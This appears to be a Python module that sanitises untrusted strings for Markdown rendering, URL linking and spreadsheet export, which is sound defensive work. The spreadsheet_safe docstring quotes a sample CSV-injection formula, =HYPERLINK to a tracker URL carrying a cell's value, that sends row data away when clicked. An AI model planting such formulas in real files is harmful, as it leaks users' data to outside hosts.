"""Text from outside, shown as text: Markdown escaping, and which URLs may become links.

Titles, creators, licences, queries, breed names, reviewer names and model names come from
search APIs, files and people. The review app and the export's datasheet render Markdown
(GitHub-flavoured, in the app with Streamlit's extensions), where such a string could otherwise
become an image the reader's browser fetches, a link, raw HTML, a table or emphasis.
``md_escape`` turns it into Markdown that renders as the very characters it holds; ``plain``
also keeps a bare address from becoming a link, and is what both of them use; ``inline_code``
shows a value in a code span; ``web_url`` says whether a URL may be a link at all (only
``http``/``https``: never ``javascript:``, ``data:``, a relative path or something malformed).
Files opened in spreadsheets (the export's manifest, the predictions file) write their text
cells through ``spreadsheet_safe``, so that no cell runs as a formula.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

# Characters that start inline Markdown anywhere on a line: code, emphasis, strikethrough,
# links and images, tables, maths ($), Streamlit's :directives[...] and :emoji:, e-mail
# autolinks (@) and headings (#).
_INLINE = frozenset("\\`*~[]!|$:@#")
_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
# Line breaks would start new blocks (lists, quotes, headings, tables); other control
# characters have no business on screen.
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]+")
# An underscore between two letters or digits is never emphasis (``german_shepherd``); any other
# one may be.
_LOOSE_UNDERSCORE = re.compile(r"(?<![^\W_])_|_(?![^\W_])")
WORD_JOINER = "\u2060"
# GitHub-flavoured renderers (Streamlit's, GitHub's) turn a bare ``http://``, ``www.`` or e-mail
# address into a link, and Streamlit turns ``:material/name:`` into an icon. Streamlit does so
# after the backslash escapes are resolved, so no escape stops them there; an invisible word
# joiner inside the pattern stops them in every such renderer.
_BARE_LINK = re.compile(
    r"(?i)(?<=https)(?=:)|(?<=http)(?=:)|(?<=www)(?=\.)|(?=@)|(?<=:)(?=material/)"
)
# Block markers that only count at the start of a line: a list item, a setext underline, an
# ordered list item.
_LEADING_MARKER = re.compile(r"^(\s*)([-+=]|\d{1,9}(?=[.)](?:\s|$)))")

WEB_SCHEMES = frozenset({"http", "https"})
# A browser drops tabs and line breaks inside a URL and reads a backslash as a slash, so a URL
# holding them is not the one this check would see: refused.
_URL_AMBIGUOUS = frozenset("\\")
# What a URL may not hold as it is (a space, quotes, angle brackets, ...): percent-encoded, as a
# browser does before it sends the request. Letters beyond ASCII stay (an IRI, as browsers take).
_URL_ENCODE = str.maketrans({ch: f"%{ord(ch):02X}" for ch in ' "<>`{}|^'})


def md_escape(value: object) -> str:
    """``value`` as Markdown (and HTML) that renders as exactly its text, on one line.

    Inline syntax is backslash-escaped, ``& < >`` become entities (no HTML, no ``<http://...>``
    autolink), line breaks and other control characters become spaces. Letters, digits, and the
    punctuation that cannot start anything in the middle of a line are left as they are, so a
    raw datasheet stays readable. A bare address may still become a link: ``plain`` stops that.
    """
    out: list[str] = []
    for ch in one_line(value):
        if ch in _ENTITIES:
            out.append(_ENTITIES[ch])
        elif ch in _INLINE:
            out.append("\\" + ch)
        else:
            out.append(ch)
    escaped = _LOOSE_UNDERSCORE.sub(r"\\_", "".join(out))
    return _LEADING_MARKER.sub(lambda m: m.group(1) + _escape_marker(m.group(2)), escaped, count=1)


def plain(value: object) -> str:
    """``value`` as Markdown that shows exactly its text and nothing live: no image, link, HTML
    or formatting, and no bare address a renderer would link (``md_escape``, with a word joiner,
    invisible, inside each ``http:``, ``www.``, ``@`` and ``:material/``)."""
    return md_escape(_BARE_LINK.sub(WORD_JOINER, "" if value is None else str(value)))


def inline_code(value: object) -> str:
    """``value`` as a Markdown code span (shown as typed, in a monospace font, on one line): the
    fence is one backtick longer than any run of backticks inside, so none of them can close it
    early, and nothing inside is dropped."""
    text = one_line(value)
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def one_line(value: object) -> str:
    """``value`` as text on one line: line breaks and other control characters become spaces."""
    return _CONTROL.sub(" ", "" if value is None else str(value))


def _escape_marker(marker: str) -> str:
    return "\\" + marker if not marker.isdigit() else marker + "\\"


def web_url(url: object) -> str | None:
    """``url`` if it is an absolute ``http``/``https`` URL with a host, else ``None``.

    Surrounding whitespace is dropped, a scheme-relative ``//host/...`` is read as https and
    characters a URL may not hold as they are (spaces, quotes, ``<``) are percent-encoded, as a
    browser would send them. Anything else (``javascript:``, ``data:``, a relative path, control
    characters or a backslash inside, no host, a host with a space or other character no host
    name holds, a bad port) is refused rather than repaired, since a repaired URL may not be the
    one the reader's browser would open.
    """
    if not isinstance(url, str):
        return None
    text = url.strip()
    if text.startswith("//"):
        text = "https:" + text
    if not text or not text.isprintable() or any(ch in _URL_AMBIGUOUS for ch in text):
        return None
    text = text.translate(_URL_ENCODE)
    try:
        parts = urlsplit(text)
        parts.port  # noqa: B018 - raises ValueError on a port that is not a number in range
    except ValueError:
        return None
    if parts.scheme.lower() not in WEB_SCHEMES or not parts.hostname:
        return None
    if "%" in parts.hostname:  # a space, quote or bracket, encoded above: no such host
        return None
    return text


# What makes a spreadsheet read a cell as a formula (tab and carriage return too: some
# spreadsheets drop them and read what follows), and the full-width forms some accept as well.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA_GUARD = "'"
# A text cell that is a plain number (``-1``, ``+2.5``, ``1e-3``) is no formula: kept as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def spreadsheet_safe(value: str | float | None) -> str | float | None:
    """``value`` as a spreadsheet shows it and never runs it: a text that starts like a formula
    (``=HYPERLINK("http://tracker/?"&A1, "pug")`` sends the row away when clicked) gets a
    leading ``'``, as OWASP recommends against CSV injection; numbers, plain-number texts and
    ``None`` are returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return FORMULA_GUARD + value
